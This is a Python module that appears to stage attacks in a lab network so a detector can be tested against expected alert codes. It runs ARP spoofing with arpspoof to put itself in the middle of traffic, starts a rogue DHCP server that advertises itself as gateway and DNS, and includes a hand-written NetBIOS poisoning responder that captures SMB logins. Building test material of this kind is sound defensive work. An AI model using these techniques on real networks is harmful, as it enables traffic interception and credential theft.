"""What one machine can do to the others of its network: lie about addresses, settings and names."""

import pathlib
import socket
import struct
import time

import servers
from network import ROUTER


def arp(lab):
    """dsniff's arpspoof tells victim and router that it is the other; what they send passes through it."""
    lab.router()
    outside = lab.outside("outside", "203.0.113.9")
    servers.nginx(lab, outside)
    victim, liar = lab.host("victim", "10.0.0.6"), lab.host("liar", "10.0.0.5")
    lab.involve(victim, liar)
    liar.run(
        "sysctl",
        "-qw",
        "net.ipv4.ip_forward=1",
        "net.ipv4.conf.all.send_redirects=0",
        "net.ipv4.conf.wire.send_redirects=0",
    )

    def fetch():
        victim.run("curl", "-s", "-m", 5, "-o", "/dev/null", f"http://{outside.address}/", check=False)

    with lab.recorded():
        for _ in range(3):
            fetch()
            time.sleep(1)
        with lab.expect("l2-spoof/mitm", of=ROUTER):
            lies = [
                liar.start("arpspoof", "-i", "wire", "-t", *pair)
                for pair in ((victim.address, ROUTER), (ROUTER, victim.address))
            ]
            for _ in range(15):
                fetch()
                time.sleep(1)
            for lie in lies:
                lie.terminate()
            time.sleep(6)


def dnsmasq(lab, host, *flags):
    """DHCP by dnsmasq."""
    common = [
        "--no-daemon",
        "--port=0",
        "--conf-file=/dev/null",
        "--no-ping",
        "--dhcp-authoritative",
        "--interface=wire",
        "--log-dhcp",
    ]
    leases = f"--dhcp-leasefile={lab.folder}/{host.name}.leases"
    return host.start("dnsmasq", *common, leases, *flags)


def lease(host):
    """Asks for an address as a machine that starts."""
    host.run("udhcpc", "-i", "wire", "-q", "-f", "-n", "-t", 3, "-T", 1, "-s", "/bin/true", check=False)


def dhcp(lab):
    """A second DHCP server names itself as router and name server; clients take what it offers."""
    good, rogue = lab.host("good", "10.0.0.2"), lab.host("rogue", "10.0.0.5")
    first, second = lab.host("first", "10.0.0.30"), lab.host("second", "10.0.0.31")
    lab.involve(first, second, good)
    with lab.recorded():
        serving = dnsmasq(
            lab, good, "--dhcp-range=10.0.0.100,10.0.0.120,1h", "--dhcp-option=3,10.0.0.1", "--dhcp-option=6,10.0.0.2"
        )
        time.sleep(1)
        lease(first)
        lease(second)
        with lab.expect("rogue-gateway/dhcp-server/accepted", of=rogue):
            dnsmasq(
                lab,
                rogue,
                "--dhcp-range=10.0.0.200,10.0.0.220,1h",
                "--dhcp-option=3,10.0.0.5",
                "--dhcp-option=6,10.0.0.5",
            )
            time.sleep(1)
            # Both offer; then the old one is slow to answer.
            lease(first)
            serving.terminate()
            serving.wait()
            lease(first)
            lease(second)


def lying_responder(address):
    """Answers every question for a NetBIOS name with its own address."""
    listening = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listening.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    listening.bind(("", 137))
    while True:
        question, asker = listening.recvfrom(2048)
        if len(question) < 50 or question[2] & 0x80:
            continue
        head = question[:2] + struct.pack("!5H", 0x8500, 0, 1, 0, 0)
        answer = question[12:46] + struct.pack("!2HIH", 32, 1, 165, 6) + b"\0\0" + socket.inet_aton(address)
        listening.sendto(head + answer, asker)


def names(lab):
    """A machine answers NetBIOS questions for names that nobody has, and takes the log-ins of those who asked."""
    servers.people(lab)
    liar = lab.host("liar", "10.0.0.5")
    victims = [lab.host(f"victim{n}", f"10.0.0.{30 + n}") for n in range(2)]
    lab.involve(*victims)
    servers.smbd(lab, liar)
    liar.do(lying_responder, liar.address)
    liar.wait_for(137, kind="u")
    conf = servers.write(
        lab, "client.conf", "[global]\nname resolve order = bcast\nworkgroup = HOME\ninterfaces = wire\n"
    )
    codes = ["name-poisoning/many-names", "name-poisoning/captured"]
    with lab.recorded(), lab.expect(*codes, of=liar):
        for victim, wanted in zip(victims * 2, ("filesrvv", "printr1", "intranett", "backup7"), strict=True):
            login = f"alice%{servers.PEOPLE['alice']}"
            victim.run("smbclient", "-s", conf, f"//{wanted}/files", "-U", login, "-c", "ls", check=False)


def browsing(lab):
    """nmbd answers for its own name and its workgroup, as file servers do; people look them up and go there."""
    servers.people(lab)
    server = lab.host("server", "10.0.0.20")
    people = [lab.host(f"person{n}", f"10.0.0.{30 + n}") for n in range(3)]
    shares = servers.smbd(lab, server)
    base = shares.parent
    conf = servers.write(
        lab,
        "nmbd.conf",
        f"""\
        [global]
        workgroup = HOME
        netbios name = SERVER
        interfaces = wire
        bind interfaces only = yes
        local master = yes
        preferred master = yes
        os level = 255
        private dir = {base}/private
        lock directory = {base}/lock
        state directory = {base}/state
        cache directory = {base}/cache
        pid directory = {base}/pid
        log file = {lab.folder}/server-nmbd.log
        """,
    )
    client = servers.write(
        lab, "client.conf", "[global]\nname resolve order = bcast\nworkgroup = HOME\ninterfaces = wire\n"
    )
    with lab.recorded():
        pathlib.Path("/run/samba/nmbd").mkdir(parents=True)
        server.start("nmbd", "-F", "--no-process-group", "-s", conf)
        server.wait_for(137, kind="u")
        # It asks for a few seconds whether somebody else has its names.
        time.sleep(12)
        for person in people:
            for wanted in ("SERVER", "SERVER#00", "HOME#1b", "HOME#1d", "HOME", "__SAMBA__", "NOBODY"):
                person.run("nmblookup", "-s", client, wanted, check=False)
            person.run("nmblookup", "-s", client, "-A", server.address, check=False)
            login = f"alice%{servers.PEOPLE['alice']}"
            person.run("smbclient", "-s", client, "//server/files", "-U", login, "-c", "ls")
